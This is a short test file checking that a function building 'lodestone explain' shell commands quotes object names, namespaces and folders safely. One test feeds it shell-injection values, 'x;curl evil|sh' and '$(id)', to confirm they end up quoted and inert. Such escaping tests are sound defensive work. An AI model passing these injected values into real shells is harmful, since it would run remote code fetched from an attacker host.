/** Tests the commands that the page shows. */
import { expect, test } from 'vitest'
import { explainCommand } from './commands.ts'

const OBJECT = { kind: 'Deployment.v1.apps', name: 'trainer', namespace: 'demo', folder: undefined }

test('the command of an object has its namespace, and the folder that the page reads', () => {
  expect(explainCommand(OBJECT)).toBe('lodestone explain Deployment.v1.apps/trainer -n demo')
  expect(explainCommand({ ...OBJECT, namespace: undefined, folder: 'my hub' })).toBe(
    "lodestone explain Deployment.v1.apps/trainer --folder 'my hub'",
  )
})

test('a shell runs nothing that the author of a link wrote into it', () => {
  expect(explainCommand({ ...OBJECT, name: 'x;curl evil|sh', namespace: '$(id)' })).toBe(
    "lodestone explain 'Deployment.v1.apps/x;curl evil|sh' -n '$(id)'",
  )
})
